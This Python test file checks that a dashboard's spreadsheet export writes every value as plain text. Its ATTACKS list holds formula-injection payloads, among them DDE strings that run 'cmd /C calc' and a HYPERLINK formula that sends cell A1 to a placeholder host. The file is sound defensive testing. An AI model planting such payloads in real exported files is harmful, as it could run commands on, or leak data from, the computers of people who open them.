"""What leaves the house is text: no exported cell runs, links, or changes its number."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl

from dashboard.exports import neutral
from dashboard.exports.neutral import Value

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1|cmd",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u3000=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此")',
    "=DDE(\"cmd\";\"/C calc\";\"__\")",
    "{=1+1}",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "http://example.invalid/",
    "internal:Sheet1!A1",
    "mailto:a@example.invalid",
)  # fmt: skip


def written(values: list[Value]) -> bytes:
    buffer = io.BytesIO()
    book = neutral.workbook(buffer, "试")
    sheet, look = book.add_worksheet("试"), book.add_format()
    for row, value in enumerate(values):
        neutral.write(sheet, row, 0, value, look)
    book.close()
    return buffer.getvalue()


def cells(data: bytes) -> list[object]:
    return [row[0].value for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].rows]


def test_no_attack_becomes_a_formula_or_a_link() -> None:
    data = written(list(ATTACKS))
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
        assert not any("rels" in name and "sheet" in name for name in parts.namelist())
    assert b"<f" not in sheet
    assert b"hyperlink" not in sheet
    assert sheet.count(b't="s"') == len(ATTACKS)


def test_numbers_and_days_keep_their_types() -> None:
    values: list[Value] = [-300, Decimal("-1200.50"), 0.1, True, date(2017, 3, 8)]
    found = cells(written(values))
    assert found[:4] == [-300, -1200.5, 0.1, True]


def test_what_a_spreadsheet_would_change_is_written_as_text() -> None:
    values: list[Value] = [123456789012345678, float("nan"), float("inf"), date(1899, 1, 1)]
    assert cells(written(values)) == ["123456789012345678", "nan", "inf", "1899-01-01"]


def test_sheet_names_are_made_fit_and_kept_apart() -> None:
    assert neutral.sheet_name("[已隐去] 2017/2018", []) == "已隐去  2017 2018"
    assert neutral.sheet_name("", []) == "Sheet"
    long = "名" * 40
    first = neutral.sheet_name(long, [])
    second = neutral.sheet_name(long, [first])
    assert (len(first), len(second), second[-4:]) == (31, 31, " (2)")
    assert neutral.sheet_name("ABC", ["abc"]) == "ABC (2)"
